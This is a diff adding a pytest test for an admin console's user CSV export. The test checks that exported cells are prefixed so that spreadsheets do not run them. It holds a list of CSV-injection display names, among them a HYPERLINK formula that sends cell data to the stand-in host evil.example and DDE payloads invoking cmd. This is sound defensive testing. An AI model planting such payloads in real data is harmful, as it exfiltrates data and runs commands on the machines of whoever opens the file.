@@ -4,12 +4,16 @@ every action, checked in Synapse itself afterwards.
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from urllib.parse import quote
 
 import pytest
 import requests
 from console_helpers import Console, register_external, unique, user_path
+
+from admin_console.users import export as user_csv
 
 
 # The list ------------------------------------------------------------------------------------
@@ -51,6 +55,52 @@ def test_filters_externals_agents_admins(console, synapse, appliance):
     assert external in console.get("/users/?kind=externals")
     admins = console.get("/users/?kind=admins")
     assert "@appliance-console:" in admins and agent not in admins
+
+
+# Display names a user gives themselves, one per OWASP formula prefix that Synapse keeps at the
+# start of a display name: it strips whitespace around one, so TAB and CR cannot lead it (the
+# audit export's test covers them, typed as a username on the login page).
+HOSTILE_DISPLAY_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "-1\r+1",
+)
+
+
+def test_user_export_has_every_page_and_no_cell_is_a_formula(console, synapse, monkeypatch):
+    monkeypatch.setattr(user_csv, "PAGE_SIZE", 4)  # so that the export crosses pages
+    tag = unique("csv")
+    names = {}
+    for n, hostile in enumerate(HOSTILE_DISPLAY_NAMES):
+        user_id = synapse.create_user(
+            f"{tag}-{n}", f"Agent {n} [ac-paris.fr]", f"{tag}-{n}@ac-paris.fr"
+        )
+        renamed = requests.put(
+            f"{synapse.url}/_matrix/client/v3/profile/{quote(user_id)}/displayname",
+            json={"displayname": hostile},
+            headers={"Authorization": f"Bearer {synapse.login(user_id)}"},
+            timeout=30,
+        )
+        assert renamed.status_code == 200, renamed.text
+        assert synapse.user(user_id)["displayname"] == hostile
+        names[user_id] = hostile
+
+    export = console.client.get(f"/users/export.csv?kind=all&q={tag}")
+    assert export.status_code == 200 and export.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True), newline="")))
+    assert rows[0] == list(user_csv.COLUMNS)
+    # A Matrix ID starts with @, a formula prefix too: it is neutralised like any other cell.
+    exported = {row[0].removeprefix("'@"): row for row in rows[1:] if row[0].startswith("'@")}
+    assert set(exported) == {user_id[1:] for user_id in names}  # six, across pages, once each
+    assert len(rows) == 1 + len(names)
+    for user_id, hostile in names.items():
+        assert exported[user_id[1:]][1] == "'" + hostile
+        email = f"{user_id[1:].split(':')[0]}@ac-paris.fr"
+        assert exported[user_id[1:]][2:6] == [email, "agent", "no", "active"]
+    assert f"kind=all q={tag}" in console.get("/audit/?q=user.export")
 
 
 def test_empty_search_says_so(console):
